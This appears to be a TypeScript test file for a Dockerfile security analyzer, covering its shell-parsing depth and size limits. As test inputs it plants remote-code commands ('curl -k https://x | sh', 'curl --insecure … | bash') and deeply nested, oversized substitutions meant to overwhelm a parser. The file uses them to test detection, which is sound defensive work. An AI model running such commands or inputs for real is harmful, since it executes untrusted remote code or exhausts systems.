import * as assert from 'node:assert/strict';
import { analyze, DocumentParseCache, type AnalysisResult } from '../../../server/src/engine';
import { readScript } from '../../../server/src/engine/parsers/dockerfile-shell-commands';
import { scanCommandsFlat } from '../../../server/src/engine/parsers/dockerfile-shell-fallback';
import { SHELL_LIMITS, ScriptTooComplex, type ShellCommand } from '../../../server/src/engine/parsers/dockerfile-shell-syntax';
import { builtinPackRoot, loadRuleSet } from '../../../server/src/node/rule-packs';

// Hostile RUN syntax (issue 11, items 1 and 2): a script nested or sized past the reader's limits is
// read flat and noticed on its own instruction, and never hides the commands of the others.

const { ruleSet } = loadRuleSet([builtinPackRoot()]);
const NOW = new Date('2026-06-01T00:00:00Z');
const identity = { start: (i: number) => i, end: (i: number) => i };
const shape = (c: ShellCommand): string => [...c.assignments, ...c.words].map((w) => w.value).join(' ');
const nest = (depth: number, inner: string): string => '$(echo '.repeat(depth - 1) + '$(' + inner + ')'.repeat(depth);

const PLANTED = 'RUN curl -k https://x | sh';
const HEAD = `FROM alpine:3.20@sha256:${'a'.repeat(64)}\nUSER 10001\n${PLANTED}\n`;

function run(text: string, cache?: DocumentParseCache): AnalysisResult {
  return analyze({ uri: 'file:///w/Dockerfile', text }, ruleSet, { now: NOW, cache });
}

/** The planted `curl -k … | sh` findings: remote exec from `curl` to `sh`, TLS off at `-k`. */
function assertPlantedReported(text: string, result: AnalysisResult): void {
  const at = text.indexOf(PLANTED) + 'RUN '.length;
  const found = result.findings.filter((f) => f.span.start < text.indexOf('\n', at)).map((f) => [f.ruleId, f.span.start, f.span.end]);
  assert.deepEqual(found, [
    ['docker-remote-script-piped-to-shell', at, at + 'curl -k https://x | sh'.length],
    ['docker-tls-verify-disabled', at + 'curl '.length, at + 'curl -k'.length],
  ]);
}

function tooComplex(result: AnalysisResult): { start: number; end: number; message: string }[] {
  return result.notices.filter((n) => n.code === 'script-too-complex').map((n) => ({ start: n.span?.start ?? -1, end: n.span?.end ?? -1, message: n.message }));
}

describe('shell reader limits', () => {
  it(`reads substitutions nested ${SHELL_LIMITS.maxDepth} deep, and refuses one level more`, () => {
    const inside = readScript(`echo ${nest(SHELL_LIMITS.maxDepth, 'curl -k x | sh')}`, identity);
    assert.equal(inside.length, SHELL_LIMITS.maxDepth + 2);
    assert.deepEqual(inside.slice(-2).map(shape), ['curl -k x', 'sh']);
    assert.throws(() => readScript(`echo ${nest(SHELL_LIMITS.maxDepth + 1, 'x')}`, identity), (err: unknown) => err instanceof ScriptTooComplex && /nested more than 32 deep/.test(err.message));
  });

  it('counts sh -c strings and backticks as nesting levels too', () => {
    const shc = 'sh -c "'.repeat(1) + "sh -c '".repeat(1) + 'echo ' + nest(SHELL_LIMITS.maxDepth - 1, 'x') + "'" + '"';
    assert.throws(() => readScript(shc, identity), ScriptTooComplex);
    const ticks = 'echo ' + nest(SHELL_LIMITS.maxDepth, '`id`');
    assert.throws(() => readScript(ticks, identity), ScriptTooComplex);
  });

  it(`reads a flat substitution of ${SHELL_LIMITS.maxCommands - 1} commands, and refuses one more`, () => {
    const commands = readScript(`echo $(${'a;'.repeat(SHELL_LIMITS.maxCommands - 1)})`, identity);
    assert.equal(commands.length, SHELL_LIMITS.maxCommands);
    assert.equal(commands.filter((c) => c.nesting === 'command-substitution').length, SHELL_LIMITS.maxCommands - 1);
    assert.throws(() => readScript(`echo $(${'a;'.repeat(SHELL_LIMITS.maxCommands)})`, identity), /more than 4096 commands/);
  });

  it('refuses a script over the size limit', () => {
    assert.throws(() => readScript('a '.repeat(SHELL_LIMITS.maxScriptChars / 2 + 1), identity), /more than the 65536 read in full/);
  });

  it('scans flat: every substitution opener is a boundary, pipelines kept, quotes removed, redirections dropped', () => {
    const { commands, complete } = scanCommandsFlat(`echo "$(echo \`curl -k "https://y" 2>/dev/null | sh\`)" && A=1 b <(c) ; if x; then 'd' e; fi`, identity);
    assert.deepEqual(commands.map(shape), ['echo', 'echo', 'curl -k https://y', 'sh', 'A=1 b', 'c', 'x', 'd e']);
    const [curl, sh] = commands.slice(2, 4);
    assert.equal(curl.pipeline, sh.pipeline);
    assert.deepEqual([curl.pipelineIndex, sh.pipelineIndex], [0, 1]);
    assert.ok(commands.every((c) => c.compound), 'flat commands are never edited');
    assert.equal(complete, true);
    const capped = scanCommandsFlat('a;'.repeat(SHELL_LIMITS.maxCommands + 10), identity);
    assert.deepEqual([capped.commands.length, capped.complete], [SHELL_LIMITS.maxCommands, false]);
  });
});

describe('a hostile RUN beside a plain one', () => {
  const attacks: [string, string][] = [
    ['1,000 nested $( (8 KB)', `RUN echo ${nest(1000, 'x')}`],
    ['a flat $(a;a;…) past the size limit', `RUN echo $(${'a;'.repeat(40_000)})`],
    ['1,000 nested backticks and quotes', `RUN echo ${'"$(`'.repeat(1000)}`],
  ];
  for (const [name, hostile] of attacks) {
    it(`${name}: the other RUN is still reported, the hostile one is noticed, no rule fails`, () => {
      const text = `${HEAD}${hostile}\n`;
      const result = run(text);
      assert.deepEqual(result.notices.filter((n) => n.code === 'rule-failed'), []);
      assertPlantedReported(text, result);
      const notices = tooComplex(result);
      const runStart = text.indexOf(hostile);
      assert.deepEqual(notices.map((n) => [n.start, n.end]), [[runStart, text.length - 1]]);
    });
  }

  it('still sees a command buried under a too-deep substitution, and offers no fix inside it', () => {
    const hostile = `RUN echo ${nest(40, 'curl --insecure https://y | bash')}`;
    const text = `${HEAD}${hostile}\n`;
    const result = run(text);
    const curl = text.indexOf('curl --insecure');
    const buried = result.findings.filter((f) => f.span.start >= text.indexOf(hostile));
    assert.deepEqual(buried.map((f) => [f.ruleId, f.span.start, f.span.end]), [
      ['docker-remote-script-piped-to-shell', curl, curl + 'curl --insecure https://y | bash'.length],
      ['docker-tls-verify-disabled', curl + 'curl '.length, curl + 'curl --insecure'.length],
    ]);
    assert.deepEqual(buried.flatMap((f) => f.fixes), []);
    assert.equal(tooComplex(result).length, 1);
    assertPlantedReported(text, result);
  });

  it('keeps the notice when the cached script moves (an edit above the hostile RUN)', () => {
    const hostile = `RUN echo ${nest(100, 'x')}`;
    const cache = new DocumentParseCache();
    const first = `${HEAD}${hostile}\n`;
    const moved = `# a comment\n${first}`;
    run(first, cache);
    const cached = run(moved, cache);
    assert.deepEqual(cached.notices, run(moved).notices);
    assert.equal(tooComplex(cached)[0].start, moved.indexOf(hostile));
    assertPlantedReported(moved, cached);
  });

  it('an exec-form RUN holding `<<EOF` does not swallow the instructions after it (Docker reads no heredoc there)', () => {
    for (const exec of ['RUN ["sh", "-c", "cat <<EOF"]', 'RUN --network=none ["cat", "<<-EOF"]', 'ONBUILD RUN ["sh", "-c", "x <<A <<B"]']) {
      const text = `FROM alpine:3.20@sha256:${'a'.repeat(64)}\nUSER 10001\n${exec}\n${PLANTED}\nRUN sudo make\n`;
      const result = run(text);
      assertPlantedReported(text, result);
      assert.deepEqual(result.findings.filter((f) => f.ruleId === 'docker-run-sudo').map((f) => f.span.start), [text.indexOf('sudo make')], exec);
    }
  });

  it('gives a heredoc body that nests too deep its own notice, and reads the RUNs around it', () => {
    const text = `${HEAD}RUN <<EOF\necho ${nest(50, 'id')}\nEOF\nRUN sudo make\n`;
    const result = run(text);
    assert.equal(tooComplex(result).length, 1);
    assertPlantedReported(text, result);
    assert.deepEqual(result.findings.filter((f) => f.ruleId === 'docker-run-sudo').map((f) => f.span.start), [text.indexOf('sudo make')]);
  });
});
